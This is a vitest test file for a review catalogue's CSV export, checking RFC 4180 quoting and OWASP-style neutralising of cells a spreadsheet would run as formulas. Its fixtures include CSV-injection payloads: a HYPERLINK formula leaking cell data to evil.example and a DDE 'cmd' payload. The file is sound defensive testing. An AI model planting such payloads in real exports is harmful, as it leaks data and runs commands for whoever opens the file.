import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { buildCatalogue } from "../../../src/catalogue/index.ts";
import { CSV_COLUMNS, openDataCsv } from "../../../src/catalogue/open-data.ts";
import { reviewFeedJson } from "../../../src/catalogue/review-feed.ts";
import type { SiteSettings } from "../../../src/model/site-settings.ts";
import { fixtureSite } from "../../helpers/site.ts";
import type { Review } from "../../../src/model/review.ts";

const site = fixtureSite() as unknown as SiteSettings;

/** Titles a spreadsheet would run as a formula, or that would split a row if written bare. */
const HOSTILE_TITLES = [
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  "+1",
  "-2",
  "@x",
  "\tx",
  "\rx",
  "a\nb",
  "a\rb",
  "a\r\nb",
  '"quoted, comma"',
  "Child A",
];

function review(i: number, title: string, fields: Partial<Review> = {}): Review {
  return { id: `review-${i}`, title, type: "CSPR", area: "northshire", status: "published", published: "2025-01-01", themes: [], documents: [], ...fields };
}

describe("/reviews.csv", () => {
  const reviews = HOSTILE_TITLES.map((title, i) => review(i, title, { themes: i === 0 ? ["=cmd|' /C calc'!A0", "neglect"] : ["-theme"] }));
  const catalogue = buildCatalogue(reviews, site, "2026-11-26");
  const csv = openDataCsv(catalogue);
  const rows = parse(csv, { columns: true }) as Record<string, string>[];
  const titleOf = (id: string) => rows.find((row) => row.id === id)!.title;

  it("parses back to one row a review, whatever line breaks the titles hold", () => {
    expect(rows).toHaveLength(HOSTILE_TITLES.length);
    expect(parse(csv, { relax_column_count: false })).toHaveLength(HOSTILE_TITLES.length + 1);
  });

  it("quotes every field holding a line feed or a carriage return (RFC 4180)", () => {
    expect(csv).toContain('"a\nb"');
    expect(csv).toContain('"a\rb"');
    expect(csv).toContain('"a\r\nb"');
    expect(titleOf("review-6")).toBe("a\nb");
    expect(titleOf("review-7")).toBe("a\rb");
    expect(titleOf("review-8")).toBe("a\r\nb");
    expect(titleOf("review-9")).toBe('"quoted, comma"');
    expect(csv).toContain('"""quoted, comma"""');
  });

  it("neutralises cells a spreadsheet would run as a formula with a leading quote (OWASP), and leaves others alone", () => {
    expect(titleOf("review-0")).toBe(`'${HOSTILE_TITLES[0]}`);
    expect(titleOf("review-1")).toBe("'+1");
    expect(titleOf("review-2")).toBe("'-2");
    expect(titleOf("review-3")).toBe("'@x");
    expect(titleOf("review-4")).toBe("'\tx");
    expect(titleOf("review-5")).toBe("'\rx");
    expect(titleOf("review-10")).toBe("Child A");
    expect(rows.find((row) => row.id === "review-0")!.themes).toBe("'=cmd|' /C calc'!A0; neglect");
    expect(rows.find((row) => row.id === "review-1")!.themes).toBe("'-theme");
    expect(csv).toContain(`"'+1"`);
    // No cell of the file starts a formula.
    for (const row of parse(csv) as string[][]) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("is only the CSV: the review feed (reviews.json) keeps the titles as they are", () => {
    const json = JSON.parse(reviewFeedJson(catalogue)) as { reviews: { id: string; title: string; themes: string[] }[] };
    expect(json.reviews.map((r) => r.title).sort()).toEqual([...HOSTILE_TITLES].sort());
    expect(json.reviews.find((r) => r.id === "review-1")!.themes).toEqual(["-theme"]);
  });

  it("has the header and nothing else when nothing is listed", () => {
    expect(openDataCsv(buildCatalogue([], site, "2026-11-26"))).toBe(`${CSV_COLUMNS.map(([name]) => name).join(",")}\r\n`);
  });
});
